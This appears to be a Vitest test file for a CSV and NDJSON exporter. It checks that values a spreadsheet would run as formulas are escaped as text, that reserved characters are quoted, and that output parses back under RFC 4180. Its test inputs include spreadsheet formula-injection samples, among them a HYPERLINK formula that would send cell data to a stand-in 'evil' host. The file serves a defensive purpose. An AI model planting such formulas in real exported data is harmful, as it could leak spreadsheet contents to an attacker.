import { describe, expect, it } from "vitest";
import { csvCell, csvWriter, ndjsonWriter } from "../src/export/export-format.ts";
import { readCsv } from "./exporter.ts";

const text = (value: string) => csvCell(value, true);

describe("a cell of text", () => {
  it("a text that a spreadsheet would execute is marked as text", () => {
    for (const formula of ["=1+1", "+1", "-1", "@SUM(A1)", "=HYPERLINK(http://evil)", "-2+3"]) {
      expect(text(formula)).toBe(`"'${formula}"`);
    }
    expect(text('=HYPERLINK("http://evil?"&A1,"x")')).toBe(
      `"'=HYPERLINK(""http://evil?""&A1,""x"")"`,
    );
    for (const start of ["\t", "\r", "\n", " ", "\u00a0", "\ufeff", "\u3000"]) {
      expect(text(`${start}=1+1`)).toBe(`"'${start}=1+1"`);
    }
    for (const start of ["\t", "\r", "\n"]) expect(text(`${start}cmd`)).toBe(`"'${start}cmd"`);
    for (const start of ["\uff1d", "\uff0b", "\uff0d", "\uff20"]) {
      expect(text(`${start}1`)).toBe(`"'${start}1"`);
    }
  });

  it("a text that is no formula is unchanged", () => {
    for (const plain of [
      "a",
      "1+1",
      "a=b",
      "me@example.com",
      "x-y",
      "#1",
      "'quoted'",
      "ä\u{1f697}",
    ]) {
      expect(text(plain)).toBe(plain);
    }
  });

  it("a text with a character that CSV reserves is quoted", () => {
    expect(text('a"b')).toBe('"a""b"');
    expect(text("a,b")).toBe('"a,b"');
    expect(text("a;b")).toBe('"a;b"');
    expect(text("a\r\nb")).toBe('"a\r\nb"');
    expect(text(" a ")).toBe('" a "');
  });
});

describe("a cell", () => {
  it("a number keeps its sign", () => {
    expect(csvCell("-5", false)).toBe("-5");
    expect(csvCell("+Infinity", false)).toBe("+Infinity");
  });

  it("null is an empty cell, and an empty text is a quoted empty text", () => {
    expect(csvCell(null, true)).toBe("");
    expect(text("")).toBe('""');
  });
});

describe("a line", () => {
  const column = (name: string) => ({ name, sql: "", holdsText: true });

  it("a column name is escaped like a value", () => {
    expect(csvWriter([column("=a"), column("b,c")]).head).toBe(`"'=a","b,c"\r\n`);
  });

  it("a row with one null field is still a line", () => {
    const writer = csvWriter([column("a")]);
    expect(writer.write([null])).toBe('""\r\n');
    expect(readCsv(writer.head + writer.write([null]))).toHaveLength(2);
  });

  it("the output parses back to the same cells under RFC 4180", () => {
    const rows = [
      ["a", 'b"c', "d,e\r\nf"],
      [null, "", " "],
      ["x", null, null],
    ];
    const writer = csvWriter([column("p"), column("q"), column("r")]);
    expect(readCsv(rows.map((row) => writer.write(row)).join(""))).toEqual(rows);
  });

  it("a JSON object is one line, whatever white space it contains", () => {
    expect(ndjsonWriter.write(['{"a":{\r\n"b":1}}'])).toBe('{"a":{"b":1}}\n');
  });
});
